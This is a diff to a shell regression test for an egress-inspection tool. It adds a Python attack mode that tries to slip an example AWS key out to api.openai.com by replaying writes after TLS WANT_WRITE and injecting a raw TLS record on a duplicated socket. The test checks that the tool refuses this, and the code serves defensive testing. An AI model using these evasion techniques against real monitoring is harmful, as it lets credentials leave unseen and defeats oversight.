@@ -9,7 +9,10 @@
 # the body's tail, which the first call did not. Before the check, the
 # stream was decided on the first call's clean bytes and the key reached
 # the provider; now the connection is lost (`h2_state`) and refused by
-# `uninspectable deny`, and the key never arrives.
+# `uninspectable deny`, and the key never arrives. And a record written on
+# the socket past the TLS library between a failed call and its repeat is
+# refused: the failed call's credit is taken back until the repeat is
+# checked.
 source "$(dirname "$0")/../lib/harness.sh"
 export H_PROVIDER_H2=1 H_PROVIDER_H2_WINDOW_openai=16777216
 harness_start tls-h2-replay
@@ -24,12 +27,15 @@ audit_wait event=policy_load policy=big-bodies >/dev/null
 # every repeat after a WANT_WRITE carries an AWS key 300 bytes before the
 # end of the body (with "same", the same bytes: the control). Prints
 # {"wants": N, "sent": bool, "error": ...}.
-ATTACK='import json, select, socket, ssl, sys, time
+ATTACK='import json, os, select, socket, ssl, sys, time
 import h2.config, h2.connection
 host, ca, mode = sys.argv[1], sys.argv[2], sys.argv[3]
 key = b"AKIAIOSFODNN7EXAMPLE"
 body = json.dumps({"messages": [{"role": "user", "content": "x" * 1000000}],
                    "model": "gpt-4o-mini"}).encode()
+if mode == "smuggle":  # decided at its start: the big write is credited, not held
+    body = json.dumps({"model": "gpt-4o-mini",
+                       "messages": [{"role": "user", "content": "x" * 1000000}]}).encode()
 ctx = ssl.create_default_context(cafile=ca)
 ctx.set_alpn_protocols(["h2"])
 raw = socket.create_connection((host, 443), timeout=15)
@@ -47,8 +53,10 @@ while (c.outbound_flow_control_window < len(body) or
         break
     c.receive_data(data)
     s.sendall(c.data_to_send())
+release = sys.argv[4] if mode == "smuggle" else ""
 c.send_headers(1, [(":method", "POST"), (":path", "/v1/chat/completions"), (":scheme", "https"),
-                   (":authority", host), ("content-type", "application/json")])
+                   (":authority", host), ("content-type", "application/json")] +
+               ([("x-aspen-test-stall", release)] if release else []))
 s.sendall(c.data_to_send())
 step = c.max_outbound_frame_size
 for i in range(0, len(body), step):
@@ -58,7 +66,24 @@ first = c.data_to_send()
 # before the end, inside the content string
 p = len(first) - 300
 assert first[p:p + len(key)] == b"x" * len(key)
-again = first if mode == "same" else first[:p] + key + first[p + len(key):]
+again = first if mode != "changed" else first[:p] + key + first[p + len(key):]
+smuggled = None
+def smuggle():
+    # a TLS 1.3 record of application data no probe saw, written on the
+    # socket past the TLS library before the repeat. It starts where the
+    # records sk_msg walked end: here the kernel keeps the unsent rest of
+    # the record the failed call half sent for the socket (TCP had 127
+    # bytes of it), so no filler goes first (evasion.py wantwrite, over
+    # HTTP/1.1, needs one)
+    assert s.version() == "TLSv1.3", s.version()
+    text = b"SMUGGLED-RECORD-" + b"0" * 480
+    w = socket.socket(fileno=os.dup(s.fileno()))
+    w.settimeout(3)
+    try:
+        w.sendall(b"\x17\x03\x03" + len(text).to_bytes(2, "big") + text)
+        return "left"
+    except OSError as e:
+        return "refused %s" % e.errno
 s.setblocking(False)
 wants, sent, err, buf = 0, False, None, first
 t_end = time.time() + 20
@@ -71,16 +96,19 @@ while time.time() < t_end:
         buf, again = buf[n:], again[n:]  # a partial write: a new call for the rest
     except ssl.SSLWantWriteError:
         wants += 1
+        if mode == "smuggle" and smuggled is None:
+            smuggled = smuggle()
+            open(release, "w").close()  # the provider reads again
         buf = again  # the repeat: OpenSSL reads what it had not encrypted from here
         select.select([], [s], [], 1)
     except (ssl.SSLError, OSError) as e:
         err = "%s %s" % (type(e).__name__, getattr(e, "errno", ""))
         break
-print(json.dumps({"wants": wants, "sent": sent, "error": err}), flush=True)
+print(json.dumps({"wants": wants, "sent": sent, "error": err, "smuggled": smuggled}), flush=True)
 time.sleep(1)
 '
 attack() { # NAME MODE
-	client "$1" /usr/bin/python3 -c "$ATTACK" api.openai.com "$H_CA" "$2"
+	client "$1" /usr/bin/python3 -c "$ATTACK" api.openai.com "$H_CA" "$2" "$H_WORK/release-$1"
 }
 key_at_provider() {
 	cat "$H_REC/$IP_OPENAI"/conn-*.raw 2>/dev/null | grep -ac AKIAIOSFODNN7EXAMPLE || true
@@ -102,6 +130,16 @@ wants=$(sed -n 's/.*"wants": \([0-9]*\).*/\1/p' "$C_OUT")
 [ "${wants:-0}" -ge 1 ] || fail "the client's write never failed with WANT_WRITE (wants=$wants): the case is not exercised"
 assert_eq 0 "$(key_at_provider)" "the AWS key the repeated write brought, at the provider"
 audit_wait event=request decision=deny rule=uninspectable unparsed=h2_state pid="$C_PID" >/dev/null
+
+# ---- a record written past the TLS library between the failed call and
+# its repeat: the failed call's credit is taken back until the repeat is
+# checked (before, it stood, and covered the record)
+provider_mark "$IP_OPENAI"
+attack smuggle smuggle
+wants=$(sed -n 's/.*"wants": \([0-9]*\).*/\1/p' "$C_OUT")
+[ "${wants:-0}" -ge 1 ] || fail "the client's write never failed with WANT_WRITE (wants=$wants): the case is not exercised"
+assert_contains "$C_OUT" '"smuggled": "refused 13"' "a record written past the TLS library before the repeat"
+audit_wait event=request decision=deny rule=uninspectable unparsed=uninspected_bytes pid="$C_PID" >/dev/null
 
 assert_not_contains "$H_AUDIT" AKIAIOSFODNN7EXAMPLE "the audit trail"
 stop_aspend
